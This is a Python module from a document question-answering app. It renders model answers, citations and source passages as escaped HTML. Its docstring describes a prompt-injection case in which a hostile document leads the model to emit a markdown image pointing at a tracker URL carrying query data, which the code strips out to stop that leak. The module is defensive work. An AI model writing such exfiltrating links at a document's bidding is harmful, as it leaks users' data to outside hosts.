"""Answers, passages and documents as safe HTML: pure functions, no Gradio.

Everything that comes from a document (text, title, file name) or from a
model is escaped here, once, at the last moment. Answers are also stripped of
markdown images and remote-loading tags, so a hostile document that talks a
model into writing ``![](https://tracker/?q=...)`` never makes the browser
fetch anything. The Chatbot shows these strings with markdown rendering off,
so what is written here is exactly what the browser gets.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping

from rag.generators.context import ContextBudget
from rag.types import VERIFICATION_STRENGTH, Answer, Citation, Hit, Sentence, Verification
from ui.html import escape, flag, paragraphs, safe_model_text, where
from ui.render_trace import render_trace


def source_anchor(turn: int, n: int) -> str:
    """The id of passage ``n``'s card for answer ``turn`` (ids stay unique across a conversation)."""
    return f"t{turn}-src-{n}"


def _cite_link(turn: int, n: int, weak: bool = False, tip: str = "") -> str:
    label = f"[{n}?]" if weak else f"[{n}]"
    link = f'<a class="rag-cite" href="#{source_anchor(turn, n)}">{label}</a>'
    if not tip:
        return link
    # Shown on hover and on keyboard focus (CSS), beside the link rather than in it.
    return f'<span class="rag-cite-wrap">{link}<span class="rag-cite-tip">{tip}</span></span>'


#: Characters of a cited span shown when the pointer or the keyboard is on its [n].
TIP_CHARS = 240


def citation_tips(answer: Answer) -> dict[int, str]:
    """For each cited passage: its title and the span(s) it was cited for, as escaped text."""
    tips = {}
    for n, hit, citations in answer.shown():
        spans = " … ".join(dict.fromkeys(" ".join(c.span_text.split()) for c in citations))
        if len(spans) > TIP_CHARS:
            spans = spans[: TIP_CHARS - 1] + "…"
        tips[n] = f"<b>{escape(hit.title)}</b><br>« {escape(spans)} »" if spans else f"<b>{escape(hit.title)}</b>"
    return tips


def render_question(question: str) -> str:
    return f'<div class="rag-question">{escape(question)}</div>'


def render_status(text: str) -> str:
    """A one-line progress note shown in place of the answer while it is being prepared."""
    return f'<div class="rag-status">{escape(text)}</div>'


def render_error(message: str) -> str:
    """A user-fixable problem, as the one line the library wrote (never a traceback)."""
    return f'<div class="rag-error">{escape(message)}</div>'


def render_streaming(text: str) -> str:
    """The answer as it arrives, before citations are checked."""
    return f'<div class="rag-answer rag-streaming">{paragraphs(safe_model_text(text))}</div>'


def render_stopped(text: str) -> str:
    """An answer the user stopped: what was written so far, never checked against the passages."""
    written = paragraphs(safe_model_text(text)) if text.strip() else ""
    return (
        f'<div class="rag-answer rag-stopped">{written}'
        '<p class="rag-note">Stopped. This unfinished answer was not checked against your documents.</p></div>'
    )


def render_sentence(sentence: Sentence, turn: int, tips: Mapping[int, str] | None = None) -> str:
    # A sentence carries no markers (its citations are its own); a "[3]" in it is the document's footnote.
    text = safe_model_text(sentence.text)
    if sentence.verification == "unsupported" or not sentence.citations:
        return f'<span class="rag-sentence rag-unsupported">{text}</span>{flag("unsupported")}'
    weak = sentence.verification == "weak"
    links = "".join(_cite_link(turn, n, weak, (tips or {}).get(n, "")) for n in sentence.citations)
    return f'<span class="rag-sentence">{text}</span> {links}{flag(sentence.verification)}'


def render_answer(answer: Answer, turn: int) -> str:
    """The final answer for the chat: cited sentences (or the abstention) and its trace."""
    if answer.error:
        body = (
            render_error(answer.error)
            + '<p class="rag-note">The closest passages from your documents are listed under Sources.</p>'
        )
    elif answer.abstained:
        body = (
            '<div class="rag-abstained"><div class="rag-abstained-label">No answer in your documents</div>'
            f"<p>{safe_model_text(answer.text)}</p>"
            '<p class="rag-note">The closest passages are listed under Sources.</p></div>'
        )
    else:
        tips = citation_tips(answer)
        sentences = " ".join(render_sentence(s, turn, tips) for s in answer.sentences)
        body = f"<p>{sentences}</p>{_quoted_in_another_language(answer)}"
    return f'<div class="rag-answer">{body}{_instead_of_the_llm(answer)}</div>{render_trace(answer)}'


def _instead_of_the_llm(answer: Answer) -> str:
    """Why the LLM's own answer is not shown, when the offline answer (or an abstention) stands in for it."""
    generation = answer.generation
    if answer.error or not (generation and generation.fallback and generation.reason):
        return ""
    return (
        f'<p class="rag-note rag-fallback">{escape(generation.reason)} '
        "This answer quotes your documents instead (offline).</p>"
    )


_LANGUAGE_NAMES = {"fr": "French", "en": "English"}


def _quoted_in_another_language(answer: Answer) -> str:
    """Say why an English question gets a French answer: the offline answer quotes the documents."""
    asked = answer.language
    answered = next((c.hit.language for c in answer.citations), "und")
    if asked == answered or answered not in _LANGUAGE_NAMES or asked == "und":
        return ""
    return f'<p class="rag-note">Quoted from your documents, which are in {_LANGUAGE_NAMES[answered]}.</p>'


def highlight(passage: str, spans: Iterable[tuple[int, int, Verification]]) -> str:
    """``passage`` escaped, with each ``(start, end, verification)`` span (offsets into it) in a <mark>.

    Offsets are applied to the raw text and each piece escaped afterwards, so
    a span never cuts an entity in half. Overlapping spans are merged.
    """
    merged: list[tuple[int, int, Verification]] = []
    for start, end, verification in sorted(spans):
        start, end = max(0, start), min(len(passage), end)
        if start >= end:
            continue
        if merged and start <= merged[-1][1]:
            last_start, last_end, last_verification = merged[-1]
            merged[-1] = (last_start, max(last_end, end), _stronger(last_verification, verification))
        else:
            merged.append((start, end, verification))
    pieces, position = [], 0
    for start, end, verification in merged:
        pieces.append(escape(passage[position:start]))
        pieces.append(f'<mark class="rag-{verification}">{escape(passage[start:end])}</mark>')
        position = end
    pieces.append(escape(passage[position:]))
    return paragraphs("".join(pieces))


def _stronger(a: Verification, b: Verification) -> Verification:
    return a if VERIFICATION_STRENGTH[a] >= VERIFICATION_STRENGTH[b] else b


def _title_line(hit: Hit) -> int:
    """How much of the passage is its document's own title line, already shown as the card's title (else 0)."""
    text = hit.chunk.text
    if hit.chunk.start != 0 or not hit.title:
        return 0
    first, newline, _rest = text.partition("\n")
    if not newline or first.strip().lstrip("#").strip() != hit.title.strip():
        return 0
    return len(text) - len(text[len(first) :].lstrip())


def render_source_card(n: int, hit: Hit, citations: list[Citation], turn: int) -> str:
    """One passage: number, title, date, file (and page), text with the cited spans marked."""
    base = hit.chunk.start
    spans = [(c.start - base, c.end - base, c.verification) for c in citations]
    # The title line is not repeated under the title, unless a cited span starts in it.
    skip = _title_line(hit)
    if any(start < skip for start, _end, _verdict in spans):
        skip = 0
    spans = [(start - skip, end - skip, verdict) for start, end, verdict in spans]
    verdicts = {c.verification for c in citations}
    mark = "" if not verdicts or "supported" in verdicts else flag("weak" if "weak" in verdicts else "unsupported")
    return (
        f'<article class="rag-source" id="{source_anchor(turn, n)}">'
        f'<header><span class="rag-num">[{n}]</span> <span class="rag-title">{escape(hit.title)}</span>{mark}</header>'
        f'<div class="rag-meta">{escape(hit.date or "no date")} · {where(hit)}</div>'
        # Focusable: a long passage scrolls inside its card, and the keyboard must be able to scroll it.
        f'<blockquote class="rag-passage" tabindex="0">{highlight(hit.chunk.text[skip:], spans)}</blockquote>'
        "</article>"
    )


def render_sources(answer: Answer, turn: int) -> str:
    """The sources panel, titled with its question: cited passages, or the closest ones when nothing answered."""
    cards = "".join(render_source_card(n, hit, list(cited), turn) for n, hit, cited in answer.shown())
    asked = f'<p class="rag-sources-for">for “{escape(answer.question)}”</p>'
    if answer.abstained:
        if not cards:
            return (
                f'<div class="rag-sources">{asked}<p class="rag-note">Nothing in your documents came close.</p></div>'
            )
        return f'<div class="rag-sources"><h2>Closest passages</h2>{asked}{cards}{_AGAIN}</div>'
    return f'<div class="rag-sources"><h2>Sources</h2>{asked}{cards}{_others(answer, turn)}{_AGAIN}</div>'


def _others(answer: Answer, turn: int) -> str:
    """The passages read but not cited, folded under the cited ones."""
    cited = {n for n, _hit, _citations in answer.shown()}
    others = [(n, hit) for n, hit in enumerate(answer.hits, 1) if n not in cited]
    if not others:
        return ""
    cards = "".join(render_source_card(n, hit, [], turn) for n, hit in others)
    label = f"{len(others)} other passage{'s' if len(others) != 1 else ''} read, not cited"
    return f'<details class="rag-more"><summary>{label}</summary>{cards}</details>'


_AGAIN = '<p class="rag-note">Click an earlier answer in the chat to see its sources again.</p>'


def empty_sources() -> str:
    return '<div class="rag-sources"><p class="rag-note">Sources of the answer appear here.</p></div>'


def render_context_budget(budget: ContextBudget | None) -> str:
    """The Settings tab's line on the LLM's context window and what it leaves for the prompt."""
    if budget is None:
        return '<p class="rag-note">The offline backend has no context window: it quotes the passages.</p>'
    window = budget.window
    return (
        f'<p class="rag-note"><b>Context window:</b> {window.tokens:,} tokens (from the {escape(window.source)}) · '
        f"<b>prompt budget:</b> {budget.budget_tokens:,} tokens · <b>answer:</b> up to {budget.max_tokens:,} tokens. "
        "Passages that do not fit are left out, lowest-ranked first, and the trace says which.</p>"
    )
